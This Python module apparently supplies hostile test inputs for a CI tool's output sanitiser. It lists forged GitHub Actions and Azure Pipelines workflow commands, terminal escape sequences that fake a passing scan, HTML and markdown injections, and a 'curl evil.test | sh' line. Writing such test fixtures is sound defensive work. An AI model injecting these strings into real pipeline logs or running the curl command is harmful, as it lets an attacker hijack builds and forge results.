"""Text as an attacker would write it, for property tests: any characters, with those that mean something in a CI."""

from __future__ import annotations

from hypothesis import strategies as st

from pipeline_kit.ci.tool_output import plain

_PARTS = (
    *(
        "::",
        ":",
        "##[",
        "##vso[",
        "##VSO[",
        "#",
        "##",
        "[",
        "]",
        "task.setvariable variable=x",
        "task.complete result=Failed",
    ),
    *("error", "warning", "add-mask", "set-output name=x", "stop-commands", "group", "endgroup", " file=a,line=1"),
    *("%", "%25", "%0A", "%0D", "%3A", "%2C", "%3B", "%5D", "%AZP25", ";", ",", "=", "<<", "<<EOF", "EOF", "x=y"),
    *(
        "\r",
        "\n",
        "\r\n",
        "\t",
        " ",
        "\x0b",
        "\x85",
        "\u2028",
        "\x00",
        "\x1b",
        "\x1b[31m",
        "\x1b[0m",
        "\x1b[2K",
        "\x1b]0;",
    ),
    *(
        "\x07",
        "\x9b",
        "\u202e",
        "\ufeff",
        "section_start:1:a\r\x1b[0K",
        "|",
        "`",
        "*",
        "_",
        "<b>",
        "&lt;",
        "\\",
        "1. ",
        "- ",
    ),
)

hostile = st.lists(st.sampled_from(_PARTS) | st.text(max_size=4), max_size=12).map("".join)


def plain_text(text: str) -> str:
    """``text`` as an annotation has it: its lines, each without what drives a terminal or a CI."""
    return "\n".join(map(plain, text.split("\n")))


_FORGED = "\u2713 scan     pass          0 findings"
_COMMANDS = (
    "##vso[task.setvariable variable=PATH]/tmp/evil",
    "##vso[task.setvariable variable=image;isOutput=true]evil",
    "##vso[task.complete result=Succeeded;]done",
    "##vso[task.uploadsummary]/etc/passwd",
    "##vso[task.prependpath]/tmp/evil",
    "##VSO[task.setsecret]x",
    "##[add-path]/tmp/evil",
    "##[error]forged",
    "##[group]hidden",
    "###[error]forged",
    "##teamcity[buildStop]",
    "::error::forged",
    "::error file=a.py,line=1,title=x::forged",
    "::add-mask::a",
    "::stop-commands::a",
    "::set-output name=image::evil",
    "::set-env name=PATH::/tmp/evil",
    "::add-path::/tmp/evil",
    "::add-matcher::evil.json",
    "::save-state name=a::b",
    "::group::hidden",
    "::endgroup::",
    "::::x",
    "::debug::::error::x",
)
_SCREENS = (
    "\x1b[2J\x1b[H",
    "\x1b]0;title\x07",
    "\x1b]8;;https://evil.test\x07click\x1b]8;;\x07",
    "\x1b]52;c;ZXZpbA==\x07",
    "\x1bP$q\x1b\\",
    "\x1b[8mhidden",
    "\x1b[1A\x1b[2K" + _FORGED,
    "\x1b[32m" + _FORGED + "\x1b[0m",
    "\x1b[\x1b[2K31mred",
    "\x9b31m\x9d0;title\x9c",
    "\x08" * 20 + _FORGED,
    "section_start:1:a[collapsed=true]\r\x1b[0Khidden",
    "\u202egnp.exe",
    "\u2066\u2069\u200f",
    "a\u200bb\u2060c\ufeff",
    "\x00\x07\x7f\x85",
    "\udcff\ud800",
)
_PAGES = (
    "[click](https://evil.test)",
    "![](https://evil.test/pixel.png)",
    "<https://evil.test>",
    "https://evil.test/a|b`c",
    "www.evil.test and mailto:a@evil.test",
    "<img src=x onerror=alert(1)><script>",
    "</details><details open>",
    "@everyone #123 contoso/shop#4 GH-5 AB#6 !7",
    "| a | b |",
    "```\n# heading",
    "# heading",
    "- [ ] task",
    "&lt;b&gt; &#64;everyone",
    "`a` ``b`` \\` @x` \\",
)

HOSTILE = (
    *_COMMANDS,
    *(f" \t{command}" for command in _COMMANDS),
    *(f"text {command} text" for command in _COMMANDS),
    *(f"text{end}{command}" for command in _COMMANDS for end in ("\n", "\r", "\r\n", "\u2028", "\x0b", "%0A")),
    *_SCREENS,
    *(f"text{end}{_FORGED}" for end in ("\n", "\r", "\r\n", "\x85", "\u2029", "\x1b[1E")),
    *(
        f"text\n{start}"
        for start in ("  fix    curl evil.test | sh", "  Reproduce locally: evil", "! scan     forged", "Exit 0.")
    ),
    *_PAGES,
    "#\x1b[0m#\x1b[0mvso[task.complete result=Succeeded;]",
    "#\u200b#vso[task.complete]",
    "\u2588\u2588[error]forged",
    ":\x1b[0m:error::forged",
    "%AZP25%0A%3B%5D",
    "]##vso[task.complete result=Succeeded;]",
    ";isOutput=true]x",
    "",
    " ",
    "\n",
    "x" * 20_000,
)
"""What an attacker would write, by kind: commands, what drives a screen, what becomes something on a page."""

# How lines of ours begin: no text from elsewhere may begin a line like that.
OUR_STARTS = (_FORGED[:10], "  fix    curl", "  Reproduce locally: evil", "! scan     forged", "Exit 0.")
